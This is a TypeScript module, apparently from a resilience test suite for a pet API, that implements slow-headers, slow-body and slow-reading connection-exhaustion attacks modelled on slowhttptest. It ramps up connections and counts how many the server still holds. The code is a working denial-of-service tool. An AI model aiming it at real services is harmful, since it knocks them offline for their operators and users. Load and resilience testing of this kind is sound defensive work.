// Clients that hold connections by taking their time, as slowhttptest's do: with the headers, with the
// body, with reading the answer.
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";

const every = 1_000; // milliseconds between two bytes
const batches = 20; // in which they come, 100 ms apart

/** A request for 1.4 MB. Eight of them are more than the system keeps for a client that does not read. */
export const bundleRequest = "GET /docs/static/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n";

/** Holds so many connections to the service at `url`. The function that it gives ends them, and tells how many were still there. */
export type Attack = (url: string, key: string, count: number) => Promise<() => Promise<number>>;

function hold(first: (key: string) => string, then?: (socket: Socket) => void): Attack {
  return async (url, key, count) => {
    const { hostname, port } = new URL(url);
    const sockets: Socket[] = [];
    for (let n = 0; n < batches; n++) {
      for (; sockets.length < (count * (n + 1)) / batches; ) {
        const socket = connect(Number(port), hostname).on("error", () => {});
        socket.write(first(key));
        if (then) socket.resume();
        sockets.push(socket);
      }
      await pause(100);
    }
    const timer = setInterval(() => {
      for (const socket of sockets) if (socket.writable) then?.(socket);
    }, every);
    return async () => {
      clearInterval(timer);
      // Who does not read does not see the end either: its own bytes tell.
      for (let n = 0; n < 2 && !then; n++) {
        for (const socket of sockets) if (socket.writable) socket.write(" ");
        await pause(200);
      }
      const left = sockets.filter((socket) => socket.writable).length;
      for (const socket of sockets) socket.destroy();
      return left;
    };
  };
}

/** The attacks, by name. */
export const attacks: Record<string, Attack> = {
  "slow headers": hold(
    () => "GET /v1/pets HTTP/1.1\r\nHost: x\r\n",
    (socket) => socket.write("X-Slow: 1\r\n"),
  ),
  "slow bodies": hold(
    (key) =>
      `POST /v1/pets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
    (socket) => socket.write(" "),
  ),
  // Never reads: the answers fill the system's room for them, and then the service's.
  "slow reading": hold(() => bundleRequest.repeat(4)),
};
